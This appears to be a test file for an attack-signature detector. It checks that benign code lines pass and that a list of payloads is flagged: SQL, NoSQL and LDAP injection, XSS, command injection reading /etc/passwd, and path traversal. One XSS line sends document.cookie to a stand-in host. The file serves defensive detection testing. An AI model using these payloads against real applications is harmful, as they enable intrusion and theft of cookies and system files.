import { expect, test } from 'vitest';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';

function typesIn(line: string): readonly string[] {
  const request = { method: 'POST', path: '/api/lines', query: '', headers: {}, contentType: 'application/json' };
  return findSignatures({ ...request, body: JSON.stringify({ at: 3, line }) }).matches.map(({ type }) => type);
}

/** Lines that a search of sources, a review or a report of an error has one by one, and lines among others. */
test.each([
  ['the condition of a block of Python', 'elif row and row.left - 2 < len(cells):'],
  ['the rest of one', 'and row.left + 1 < len(cells):'],
  ['a condition that goes on', '&& this.menu.dishes && this.menu.dishes.first.price) {'],
  ['an operator as the text of a value', "path = path + '/'"],
  ['an operator in a setting', 'root: "/"'],
  ['an operator that is chosen', "case '*':"],
  ['operators with blanks', 'printf(wide ? " < " : " > ", buf);'],
  ['operators among other lines', 'snprintf(line, 80,\n  isLeft ? " < " : " > ", rest);\nat += width;\nreturn at;'],
  ['a name in quotes and what it stands for', "* 'Div': on types 'div'"],
  ['the end of a sentence', "Every key starts with '='."],
  ['a module that is made known', "const os = require('node:os');"],
  ['a measure of the machine', 'int threads = Runtime.getRuntime().availableProcessors() * 2;'],
  ['a handler that is called as what it is for', 'const onTableClick = track(menu, 3);'],
  ['another', 'const onSelectionChanged = spy.on(rows);'],
  ['what parts words is kept for later', 'saved_IFS=$IFS; IFS=$IFS$SEPARATOR'],
  ['the same in quotes', 'OLD_IFS="$IFS"'],
  ['a member of a structure of C', '&& table->menu.price < LEAST_PRICE - DISCOUNT'],
  [
    'what compilers make of a class',
    'var make = set || ({ __proto__: [] } instanceof Array && function (a, b) { a.b = b; });',
  ],
  ['the time in a text', "print('It is ' + new Date().toISOString() + '\\n')"],
  ['the pattern of a number', '^\\d+\\.?\\d*\\.?\\d*$'],
  ['the same among other lines', 'open FILE; # 1, 2.5 etc...\n($a) = /(\\d+\\.?\\d*\\.?\\d*)/;\nnext unless $a;'],
  ['a pattern for lines of a log', '%d{HH:mm} [%thread] [%X{guest}] %-5level - %msg%n'],
  ['what such a line is told with by default', '%5p [acme,%X{traceId:-},%X{spanId:-}]'],
  ['the parameter of a type', 'List <java.lang.String> names'],
  ['a condition over lines', 'if (!(\n  Tables &&\n  Tables.name === shown\n)) {'],
  [
    'a program that sets a cookie',
    `keep: (name, value) => {\n  const end = inDays(9);\n  document.cookie = name + '=' + value + end;\n},\ndrop: (name) => {\n  document.cookie = \`\${name}=;max-age=0\`;\n},`,
  ],
  ['what a message is joined with', "throw new Error('No menu in the folder: ' + this.folder);"],
  ['the same in other quotes', 'this.log.info("The guests sit at table number " + this.table.number);'],
  [
    'an answer that is kept',
    'ask: function() {\n  var seats = prompt("Enter the number of seats:", "");\n  if (!seats)\n    return;',
  ],
  ['what is called when something else is so', 'isOpen && this.close()'],
  ['the same among other lines', '      isOpen && this.serve(menu)\n      return this\n    }'],
  ['an element of a list', 'if (!has(menu[i], tables[i])) return false;'],
  ['a function that gives a member', 'define(exports, "menu", { enumerable: true, get: function () { dishes; } });'],
  ['a range of characters', 'return (c >= 0x41 && c <= 0x5A) || (c >= 0x61 && c <= 0x7A);'],
  ['a script that looks for its shell', '(PATH=/bin; FPATH=$PATH; sh -c :) >/dev/null 2>&1 ||\n  SEPARATOR=none'],
])('%s is no attack', (_, line) => {
  expect(typesIn(line)).toEqual([]);
});

test.each([
  ['sql_injection', '1 or 1=1'],
  ['sql_injection', "'-'"],
  ['sql_injection', "x'='"],
  ['sql_injection', "admin' or ''-'"],
  ['sql_injection', "x' div 'a' or 1=1 -- "],
  ['xss', '" ononclickclick=alert(1)'],
  ['xss', '" onerronerroror=alert(1) '],
  ['xss', '" onTableClick=alert(document.domain) '],
  ['xss', '},\ndocument.cookie = a + document.cookie,\n{'],
  ['xss', `},\ndocument.cookie = \`\${a}\${fetch('//203.0.113.9/' + document.cookie)}\`;\n{`],
  ['xss', '},\ndocument.cookie = a + alert(1);\n{'],
  ['xss', "'-(document.cookie = a + 1)-'"],
  ['nosql_injection', 'false && this.a() || this.password == 1'],
  ['nosql_injection', `false && this.a("${'x'.repeat(200)}") || this.password == 1`],
  ['nosql_injection', '1 && this.hasOwnProperty("secret")'],
  ['nosql_injection', "x'}) return n//"],
  ['sql_injection', "the price of menu[i]' or 1=1-- "],
  ['command_injection', 'get: function () { a; }; cat /etc/passwd'],
  ['ldap_injection', '*)(c>=a)(uid=*'],
  ['nosql_injection', "' && this.a() && '"],
  ['nosql_injection', "say 'the name of the menu ' && this.password.match(/^a/)//"],
  ['sql_injection', "say 'the name of the menu ' union select password from users--"],
  ['sql_injection', "say 'the name of the menu ' or 'a'='a"],
  ['sql_injection', "say \\'the name of the menu ' order by 5--"],
  ['xss', "say 'the name of the menu '-alert(1)-'"],
  ['command_injection', "say 'the name of the menu ';cat /etc/passwd"],
  ['command_injection', 'cat$IFS/etc/passwd'],
  ['command_injection', 'x;a=1;ls$IFS-la'],
  ['command_injection', '%x{id}'],
  ['template_injection', '<%= %x(id) %>'],
  ['sql_injection', "x' and data->'a'='b' or 1=1--"],
  ['deserialization', '{"a":{"__proto__":{"b":1}}}'],
  ['nosql_injection', "'+sleep(5000)+'"],
  ['nosql_injection', '|| this.price > 1 || this.a'],
  ['nosql_injection', "' && this.secret.match(/^a/)//"],
  ['nosql_injection', "x' && this.a) { return true } //"],
  ['command_injection', "require('os').hostname()"],
  ['command_injection', "var a = require('child_process'); a.exec('cat /etc/passwd')"],
  ['command_injection', "Runtime.getRuntime().exec('id')"],
  ['command_injection', '; sh -c id'],
  ['deserialization', '<java.lang.ProcessBuilder>'],
  ['path_traversal', '.?\\.?\\.?\\etc\\passwd'],
  ['path_traversal', '..\\d*\\..\\..\\windows\\win.ini'],
  ['ldap_injection', '!('],
  ['ldap_injection', '*)(|('],
])('%s: what does something is: %s', (type, line) => {
  expect(typesIn(line)).toContain(type);
});
